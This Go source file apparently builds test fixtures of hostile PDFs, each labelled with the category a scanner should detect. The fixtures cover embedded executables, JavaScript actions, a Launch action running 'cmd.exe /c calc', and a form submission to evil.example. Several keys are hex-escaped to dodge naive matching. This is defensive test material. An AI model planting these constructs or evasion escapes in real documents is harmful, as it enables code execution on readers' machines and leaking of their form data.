package hostilepdf

import "fmt"

// embedded are files that hold others, or point to them, in the places where
// programs look for them.
func embedded() []File {
	cat := func(s string, more ...string) []byte { return PlainWith(s, "", more...).Table("").Bytes() }
	page := func(s string) []byte { return PlainWith("", s).Table("").Bytes() }
	return []File{
		{"attached file by the catalog's names", cat("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"), "embedded_file"},
		{"attached file, escaped key", cat("/Names << /Emb#65ddedFiles 6 0 R >>"), "embedded_file"},
		{"attached file of PDF 2.0", cat("/AF [6 0 R]", "<< /Type /Filespec /F (a.xml) /UF (a.xml) /E#46 << /F 7 0 R >> >>"), "embedded_file"},
		{"attached file in an object stream", Packed("<< /Type /Filespec /EF << /F 4 0 R >> >>", true), "embedded_file"},
		{"attachment annotation, escaped", page("/Annots [<< /Subtype /File#41ttachment /FS << /F (a.exe) >> >>]"), "embedded_file"},
		{"attachment of a kind of annotation of its own", page("/Annots [<< /Subtype /Stamp /FS << /EF << /F 6 0 R >> >> >>]"), "embedded_file"},
		{"jump into an attached file", page("/Annots [<< /A << /S /GoToE /T << /R /C /N (a.pdf) >> >> >>]"), "embedded_file"},
		{"portfolio in an object stream", Packed("<< /Collection << >> >>", false), "embedded_file"},
	}
}

// actions are files that act, by each kind of action that PDF knows.
// SPEC: ISO 32000-1 §12.6.4, ISO 32000-2 §13.6.
func actions() []File {
	annotation := func(s string) []byte {
		return PlainWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A "+s+" >>]").Table("").Bytes()
	}
	out := []File{
		{"address that is a script", annotation("<< /S /URI /URI (JavaScript:app.alert\\(1\\)) >>"), "polyglot"},
		{"script behind a chain of actions", annotation("<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Java#53cript /JS 6 0 R >>] >> >>"), "javascript"},
		{"script in the names of the catalog", PlainWith("/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>", "").Table("").Bytes(), "javascript"},
		{"script as a stream, in an object stream", Packed("<< /S /JavaScript /JS 4 0 R >>", true), "javascript"},
		{"action on closing", PlainWith("/A#41 << /WC << /S /GoTo /D [3 0 R /Fit] >> >>", "").Table("").Bytes(), "action"},
		{"script of a field", PlainWith("/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (x) >> >> >>] /CO [6 0 R] >>", "").Table("").Bytes(), "javascript"},
		{"launch, of Windows", annotation("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), "launch"},
		{"launch, key alone", annotation("<< /Type /Action /Launch << >> >>"), "launch"},
		{"launch in an object stream", Packed("<< /S /L#61unch /F (sh) >>", false), "launch"},
		{"form that sends, escaped", annotation("<< /S /Submit#46orm /F << /FS /URL /F (https://evil.example) >> >>"), "submit_form"},
		{"form that reads", annotation("<< /S /ImportData /F (C:\\\\x.fdf) >>"), "submit_form"},
		{"form that sends, in an object stream", Packed("<< /S /SubmitForm >>", true), "submit_form"},
		{"XFA in an object stream", Packed("<< /Fields [] /XFA [(template) 4 0 R] >>", true), "xfa"},
		{"XFA, escaped", PlainWith("/AcroForm << /X#46A 6 0 R >>", "").Table("").Bytes(), "xfa"},
		{"XFA that draws the pages", PlainWith("/NeedsRendering true", "").Table("").Bytes(), "xfa"},
	}
	for _, kind := range []string{"RichMedia", "3D", "Movie", "Sound", "Screen"} {
		out = append(out, File{"annotation that plays: " + kind, PlainWith("", fmt.Sprintf("/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] >>]", kind)).Table("").Bytes(), "rich_media"})
	}
	for _, kind := range []string{"GoTo3DView", "Rendition", "RichMediaExecute"} {
		out = append(out, File{"action that plays: " + kind, annotation("<< /S /" + kind + " >>"), "rich_media"})
	}
	for _, kind := range []string{"ResetForm", "Hide", "SetOCGState"} {
		out = append(out, File{"action that changes what is seen: " + kind, annotation("<< /S /" + kind + " >>"), "action"})
	}
	return out
}
